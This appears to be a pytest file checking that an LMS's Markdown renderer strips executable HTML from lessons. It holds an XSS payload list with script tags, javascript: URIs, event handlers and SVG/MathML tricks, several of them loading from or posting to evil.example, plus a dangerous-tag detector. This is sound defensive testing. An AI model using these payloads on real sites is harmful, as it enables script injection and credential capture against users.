"""A hostile-HTML corpus through lesson Markdown: nothing executable reaches the page."""

from __future__ import annotations

import shutil
from html.parser import HTMLParser

import pytest

from lms.core.sanitize import render_markdown
from tests.conftest import SAMPLE_PACKAGE

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<img src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    "<style>body{display:none}</style>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name=p></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<video><source onerror="alert(1)"></video>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '"><img src=x onerror=alert(1)>',
]

SAFE_SCHEMES = ("http://", "https://", "mailto:", "tel:")
DANGEROUS_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "meta",
    "base",
    "link",
    "style",
    "svg",
    "math",
    "body",
    "frame",
    "frameset",
    "template",
    "source",
}


class _Inspector(HTMLParser):
    """Collects everything in a fragment that a browser could execute or that restyles the page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.findings: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in DANGEROUS_TAGS:
            self.findings.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.findings.append(f"{tag}[{name}]")
            if name in ("href", "src", "background", "action", "formaction", "xlink:href"):
                target = (value or "").strip().lower()
                if not target.startswith(SAFE_SCHEMES) and ":" in target.split("/")[0]:
                    self.findings.append(f"{tag}[{name}={value}]")


def executable_parts(html: str) -> list[str]:
    inspector = _Inspector()
    inspector.feed(html)
    return inspector.findings


@pytest.mark.parametrize("payload", HOSTILE)
def test_render_markdown_removes_everything_executable(payload):
    html = render_markdown(f"正文\n\n{payload}\n\n结尾")
    assert executable_parts(html) == [], html


def test_safe_markup_survives():
    html = render_markdown(
        "## 标题\n\n**重点** [链接](https://example.org) `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    assert "<h2>标题</h2>" in html and "<strong>重点</strong>" in html
    assert '<a href="https://example.org">链接</a>' in html and "<td>1</td>" in html


def test_hostile_lesson_reaches_the_page_inert(as_user, import_package, org, tmp_path):
    package = tmp_path / "sample-course"
    shutil.copytree(SAMPLE_PACKAGE, package)
    lesson = package / "03-privacy.md"
    lesson.write_text(
        lesson.read_text(encoding="utf-8") + "\n\n" + "\n\n".join(HOSTILE), encoding="utf-8"
    )
    import_package(package)
    page = as_user("learner").get("/courses/sample-course/lessons/03-privacy")
    body = page.get_data(as_text=True)
    prose = body.split('<div class="prose">')[1].split("</article>")[0]
    assert executable_parts(prose) == [], prose
    # and the page forbids inline script even if something slipped through
    assert "script-src 'self'" in page.headers["Content-Security-Policy"]


@pytest.mark.parametrize("payload", [p for p in HOSTILE if p.startswith("<") and "<!--" not in p])
def test_the_inspector_catches_the_raw_payloads(payload):
    """Without the sanitiser these payloads are caught, so the tests above can fail."""
    from markdown_it import MarkdownIt

    raw = MarkdownIt("commonmark", {"html": True}).render(payload)
    assert executable_parts(raw) != [], raw
